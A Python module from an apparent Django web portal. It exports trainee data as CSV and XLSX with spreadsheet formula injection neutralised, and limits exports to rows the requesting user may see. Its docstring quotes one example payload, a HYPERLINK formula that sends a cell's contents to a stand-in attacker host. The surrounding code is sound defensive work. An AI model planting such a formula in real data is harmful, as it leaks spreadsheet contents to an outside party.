"""Export formats whose cells a spreadsheet cannot run as formulas (CSV / formula injection).

A trainee can type their own name, job title or organisation; a cell such as
`=HYPERLINK("http://evil.example/?"&A2, "Open")` would run in the coordinator's Excel when the
export is opened. django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT only drops a
leading "=", which leaves "+", "-", "@", tab and carriage return, and turns every cell into text.
Following OWASP's advice, every string that a spreadsheet could read as a formula is prefixed with
a single quote instead; numbers, dates and empty cells are left as they are.
"""

import tablib
from django.core.exceptions import ImproperlyConfigured
from django.utils import timezone
from django.utils.functional import Promise
from import_export import resources
from import_export.formats import base_formats

from hubportal import access

# What Excel, LibreOffice and Google Sheets take as the start of a formula (tab and carriage
# return because some of them drop a leading tab / CR and read what follows).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """The value, with a leading "'" if it is a string a spreadsheet could run as a formula.

    Leading whitespace does not make a string safe: " =1+1" is a formula again once a spreadsheet
    (or a person tidying the sheet) trims it. Phone numbers such as "+49 30 1234" are prefixed as
    well: a spreadsheet would compute them. Values that are not strings are returned unchanged, so
    that a number exported as a number (-5) stays a number.
    """
    if isinstance(value, Promise):  # a lazy translation (a choice's label): a string once rendered
        value = str(value)
    # Both tests: lstrip() alone would also strip the tab or CR that is itself a trigger.
    if isinstance(value, str) and (
        value.startswith(FORMULA_TRIGGERS) or value.lstrip().startswith(FORMULA_TRIGGERS)
    ):
        return "'" + value
    return value


def local_iso(moment) -> str:
    """A timestamp for a sheet: the hub's time zone, with its offset, to the second (or "" for None).

    A text cell, not a date cell: openpyxl cannot write an aware datetime, and the offset keeps
    the time unambiguous for partners in other time zones (2022-07-18T09:00:00+09:00).
    """
    return timezone.localtime(moment).isoformat(timespec="seconds") if moment else ""


def neutralised_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of the dataset with every cell (headers too) passed through neutralise_formula."""
    headers = [neutralise_formula(h) for h in dataset.headers] if dataset.headers else None
    rows = [[neutralise_formula(cell) for cell in row] for row in dataset]
    return tablib.Dataset(*rows, headers=headers, title=dataset.title)


class SafeCSV(base_formats.CSV):
    """CSV, UTF-8 with a byte order mark, formulas neutralised.

    Excel opens a CSV file without a BOM in the machine's legacy code page (cp949 in Korea,
    cp1252 in Europe), which garbles Hangul, Arabic and accented names; with the BOM it reads
    UTF-8. The file is returned as bytes (a binary format to django-import-export), so that the
    BOM and the encoding are decided here and an admin's `to_encoding` cannot encode it twice or
    into a code page that has no Hangul.
    """

    CONTENT_TYPE = "text/csv; charset=utf-8"

    def export_data(self, dataset, **kwargs):
        text = super().export_data(neutralised_dataset(dataset), **kwargs)
        return text.encode("utf-8-sig")

    def is_binary(self):
        return True

    def can_import(self):
        # Imports go through hubportal.importexport.SpreadsheetFormat, which reads any encoding.
        return False


class SafeXLSX(base_formats.XLSX):
    """XLSX, formulas neutralised.

    openpyxl stores a string that starts with "=" as a formula; with the quote in front it stores
    a plain string. The other triggers are strings in XLSX already, but keep their quote so that
    the cells read the same as in the CSV export and stay harmless if the sheet is saved as CSV.
    """

    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralised_dataset(dataset), **kwargs)

    def can_import(self):
        return False


EXPORT_FORMATS = [SafeCSV, SafeXLSX]


_NO_ACTOR = object()


class ScopedExportResource(resources.ModelResource):
    """An export of the rows the actor may see (hubportal.access.visible).

    The admin gives it the signed-in user (HubImportExportMixin.get_export_resource_kwargs); a command
    or task says `actor=None`, the system. django-import-export's forms build one without an actor
    to read its columns only: such a one refuses to export.
    """

    def __init__(self, *, actor=_NO_ACTOR, **kwargs):
        super().__init__(**kwargs)
        self.actor = actor

    def scoped(self, queryset):
        if self.actor is _NO_ACTOR:
            raise ImproperlyConfigured(f"{type(self).__name__} exports for an actor: pass actor= (None: the system).")
        return access.visible(self.actor, queryset)

    def get_queryset(self):
        return self.scoped(super().get_queryset())

    def filter_export(self, queryset, **kwargs):
        # The admin's rows are the user's already; a caller's own queryset is narrowed here.
        return self.scoped(super().filter_export(queryset, **kwargs))
